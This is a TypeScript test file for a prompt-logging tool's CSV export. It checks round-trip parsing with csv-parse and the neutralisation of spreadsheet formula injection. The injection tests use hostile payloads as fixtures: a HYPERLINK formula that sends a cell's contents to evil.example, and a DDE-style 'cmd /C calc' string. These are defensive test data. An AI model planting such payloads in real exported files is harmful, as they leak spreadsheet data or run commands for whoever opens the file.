/*
 * CSV export read back by a real CSV parser (csv-parse), not by our own: random executions
 * (seeded; embedded quotes, commas, CR/LF, unicode, NUL) → CSV → parse → every cell equals
 * the execution's value, after the documented formula neutralisation, which is asserted on
 * its own for cells starting with = + - @ tab CR.
 *
 * Locally: PROMPTLAB_PROP_SEEDS=random (or a list), PROMPTLAB_PROP_N (rows per seed).
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { DEFAULT_CSV_COLUMNS, csvWriter, getPath } from '../../src/core/export';
import { Sanitizer } from '../../src/core/sanitize';
import type { ExecutionRecord } from '../../src/core/store';
import { LocalStore, prepareRecord } from '../../src/core/store';
import { tempDir } from './helpers/fixtures';
import { chance, envInt, randomExecution, seededRng, seedsFromEnv } from './helpers/randomExecutions';

const sanitizer = new Sanitizer();
const SEEDS = seedsFromEnv([11, 2024, 31337]);
const N = envInt('PROMPTLAB_PROP_N', 250);

/** What a spreadsheet would run as a formula (OWASP CSV injection): the export prefixes an apostrophe. */
const FORMULA_START = /^[=+\-@\t\r]/;
const neutralised = (s: string) => (FORMULA_START.test(s) ? `'${s}` : s);

/**
 * The documented cell text of a value, written out independently of the writer: empty for
 * null/missing, numbers and booleans as is (never neutralised), lists of scalars joined by
 * "; ", other objects as JSON; text cells neutralised.
 */
function expectedCell(v: unknown): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number') return Number.isFinite(v) ? String(v) : '';
  if (typeof v === 'boolean') return v ? 'true' : 'false';
  if (typeof v === 'string') return neutralised(v);
  if (Array.isArray(v) && v.every((x) => x === null || typeof x !== 'object')) return neutralised(v.map((x) => (x === null ? '' : String(x))).join('; '));
  return neutralised(JSON.stringify(v));
}

function runWriter(w: ReturnType<typeof csvWriter>, recs: readonly ExecutionRecord[]): string {
  let s = w.begin?.() ?? '';
  for (const r of recs) s += w.row(r);
  return s + (w.end?.(recs.length) ?? '');
}

/** Strict RFC 4180 read: every record the same width, quotes must be well formed. */
function readCsv(data: Buffer | string, bom = false): string[][] {
  return parse(data, { bom, relax_quotes: false, relax_column_count: false, skip_empty_lines: false }) as string[][];
}

function assertRowsEqual(rows: string[][], header: readonly string[], recs: readonly ExecutionRecord[], label: string): void {
  assert.deepEqual(rows[0], header.map(neutralised), `${label}: header (column names neutralised too)`);
  assert.equal(rows.length, recs.length + 1, `${label}: one CSV record per execution`);
  recs.forEach((r, i) => {
    const row = rows[i + 1]!;
    header.forEach((col, j) => {
      assert.equal(row[j], expectedCell(getPath(r, col)), `${label}: row ${i} (id ${JSON.stringify(r.id)}) column ${JSON.stringify(col)}`);
    });
  });
}

function randomRecords(seed: number, n: number): ExecutionRecord[] {
  const rng = seededRng(seed);
  return Array.from({ length: n }, (_, i) => prepareRecord(randomExecution(rng, `c${seed}`, i, { loneSurrogates: chance(rng, 0.2), textChars: 600 }), sanitizer));
}

describe('CSV export read back by csv-parse', () => {
  for (const seed of SEEDS) {
    it(`random executions, default columns with wildcards, seed ${seed} (replay: PROMPTLAB_PROP_SEEDS=${seed})`, () => {
      const recs = randomRecords(seed, N);
      const w = csvWriter();
      const text = runWriter(w, recs);
      assert.ok(w.header.length > DEFAULT_CSV_COLUMNS.length, 'wildcards expanded into several columns');
      // Through bytes, as a file would be: UTF-8 out, UTF-8 in.
      assertRowsEqual(readCsv(Buffer.from(text, 'utf8')), w.header, recs, `seed ${seed}`);
    });
  }

  it('explicit columns with nested dotted paths, odd keys and every record field', () => {
    const recs = randomRecords(SEEDS[0]! + 7, 120);
    const columns = ['id', 'promptText', 'responseText', 'errorMessage', 'tags', 'metadata', 'metadata.nested', 'metadata.a.b', 'metadata.',
      'modelConfig.quote"d', 'modelConfig.comma,key', 'modelConfig.line\nbreak', 'quality', 'costUsd', 'tokensOut', 'qualityScore', 'success', 'createdAt', 'no.such.column'];
    const w = csvWriter({ columns });
    assertRowsEqual(readCsv(runWriter(w, recs)), columns, recs, 'explicit');
  });

  it('a file from the store, with and without the UTF-8 BOM, equals what the store holds', async () => {
    const s = await LocalStore.open({ dir: tempDir(), sanitizer });
    const rng = seededRng(SEEDS[1]!);
    for (let i = 0; i < 60; i++) {
      s.record(randomExecution(rng, 'f', i, { loneSurrogates: chance(rng, 0.3), textChars: 800 }));
      if (i === 30) await s.compact(); // texts from segments and from pending rows
    }
    const columns = ['id', 'promptId', 'variant', 'promptText', 'responseText', 'errorMessage', 'tags', 'metadata.nested', 'latencyMs', 'success'];
    const out = tempDir();
    // The store's rows, in export order (no filter: oldest first), as the store holds them.
    const held: ExecutionRecord[] = [];
    for (const id of s.engine.database.scan(0, 1000).map((r) => r.id)) {
      const d = (await s.getExecution(id))!;
      assert.equal(d.textError, undefined);
      held.push(d);
    }
    for (const bom of [true, false]) {
      const file = path.join(out, `x-${bom}.csv`);
      assert.equal((await s.exportTo(file, { format: 'csv', columns, bom })).rows, 60);
      const bytes = fs.readFileSync(file);
      assert.equal(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), bom, `BOM ${bom ? 'written' : 'absent'}`);
      assert.equal(bytes.subarray(-2).toString('latin1'), '\r\n', 'ends with CRLF');
      assertRowsEqual(readCsv(bytes, bom), columns, held, `file bom=${bom}`);
    }
    await s.close();
  });
});

describe('CSV export: formula injection', () => {
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

  it('every cell starting with = + - @ tab or CR gets a leading apostrophe, whatever field it comes from', () => {
    for (const t of TRIGGERS) {
      const payload = `${t}HYPERLINK("http://evil.example/?x="&A1,"click")`;
      const r = prepareRecord({ id: `${t}id`, promptId: payload, success: true, promptText: payload, responseText: `${t}1+1`, errorMessage: payload,
        variant: t, tags: [`${t}cmd|' /C calc'!A0`, 'safe'], metadata: { cell: payload, list: [`${t}x`, 'y'], num: -3 }, costUsd: 1,
        createdAt: '2026-01-01T00:00:00Z' }, sanitizer);
      const columns = ['id', 'promptId', 'promptText', 'responseText', 'errorMessage', 'variant', 'tags', 'metadata.cell', 'metadata.list', 'metadata.num', `${t}header`];
      const rows = readCsv(runWriter(csvWriter({ columns }), [r]));
      const label = JSON.stringify(t);
      assert.deepEqual(rows[0], [...columns.slice(0, -1), `'${t}header`], `${label}: header`);
      const cell = Object.fromEntries(columns.map((c, j) => [c, rows[1]![j]!]));
      assert.equal(cell.id, `'${t}id`, label);
      assert.equal(cell.promptId, `'${payload}`, label);
      assert.equal(cell.promptText, `'${payload}`, label);
      assert.equal(cell.responseText, `'${t}1+1`, label);
      assert.equal(cell.errorMessage, `'${payload}`, label);
      assert.equal(cell.variant, `'${t}`, label);
      assert.equal(cell.tags, `'${t}cmd|' /C calc'!A0; safe`, `${label}: a joined list is one cell`);
      assert.equal(cell['metadata.cell'], `'${payload}`, label);
      assert.equal(cell['metadata.list'], `'${t}x; y`, label);
      assert.equal(cell['metadata.num'], '-3', `${label}: a negative number stays a number`);
    }
  });

  it('leaves text alone when the trigger is not the first character, and never neutralises numbers', () => {
    const r = prepareRecord({ id: 'a=b', promptId: 'x+y', success: false, promptText: ' =1', responseText: 'mail@host', errorMessage: 'a-b', latencyMs: 0,
      costUsd: 1e-7, metadata: { n: -0.5, big: -1e21, s: "'=already" }, createdAt: '2026-01-01T00:00:00Z' }, sanitizer);
    const columns = ['id', 'promptId', 'promptText', 'responseText', 'errorMessage', 'latencyMs', 'costUsd', 'metadata.n', 'metadata.big', 'metadata.s', 'success'];
    const rows = readCsv(runWriter(csvWriter({ columns }), [r]));
    assert.deepEqual(rows[1], ['a=b', 'x+y', ' =1', 'mail@host', 'a-b', '0', '1e-7', '-0.5', '-1e+21', "'=already", 'false']);
  });
});
